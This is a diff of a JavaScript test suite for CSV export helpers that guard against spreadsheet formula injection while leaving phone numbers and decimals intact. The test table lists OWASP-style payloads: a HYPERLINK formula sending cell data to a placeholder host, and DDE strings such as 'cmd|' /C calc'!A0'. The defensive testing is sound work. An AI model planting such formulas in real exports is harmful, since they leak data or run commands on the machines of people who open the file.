@@ -62,16 +62,35 @@ describe('CSV format helpers', () => {
     expect(isMobileNumber('01 43 00 00 00')).toBe(false);
   });
 
-  it('guards against spreadsheet formulas without spoiling phone numbers', () => {
-    expect(protectCell('=HYPERLINK("x")')).toBe('\'=HYPERLINK("x")');
-    expect(protectCell('@SUM(A1)')).toBe("'@SUM(A1)");
-    expect(protectCell('+cmd')).toBe("'+cmd");
-    expect(protectCell('-x')).toBe("'-x");
-    expect(protectCell('+33 6 12 34 56 78')).toBe('+33 6 12 34 56 78');
-    expect(protectCell('-12')).toBe('-12');
-    expect(protectCell("N'Diaye")).toBe("N'Diaye");
-    for (const value of ['=1+1', '@x', '+a', '-b', '+33612345678', 'Élodie']) {
-      expect(unprotectCell(protectCell(value))).toBe(value);
-    }
+  // OWASP's classic payloads, and the numbers and phones an export must keep as they are.
+  it.each([
+    ['=HYPERLINK("http://x.example/?d="&A1,"Cliquez")', true],
+    ['=1+1', true],
+    ['@SUM(1+1)*cmd|\' /C calc\'!A0', true],
+    ["+1+cmd|' /C calc'!A0", true],
+    ["-2+3+cmd|' /C calc'!A0", true],
+    ['-10+20', true],
+    ['+cmd', true],
+    ['-x', true],
+    ['\t=1+1', true],
+    ['\r=1+1', true],
+    ['=-2+3', true],
+    ['-12', false],
+    ['196,00', false],
+    ['-3,62', false],
+    ['+33 6 12 34 56 78', false],
+    ['+33612345678', false],
+    ['+44 20 7946 0958', false],
+    ["N'Diaye", false],
+    ['Élodie', false],
+    ['06 12 34 56 78', false],
+  ])('%j guarded: %s', (value, guarded) => {
+    expect(protectCell(value)).toBe(guarded ? `'${value}` : value);
+    expect(unprotectCell(protectCell(value))).toBe(value);
+  });
+
+  it('leaves a typed apostrophe that guards nothing on import', () => {
+    expect(unprotectCell("'Tout")).toBe("'Tout");
+    expect(unprotectCell("'-12")).toBe("'-12");
   });
 });
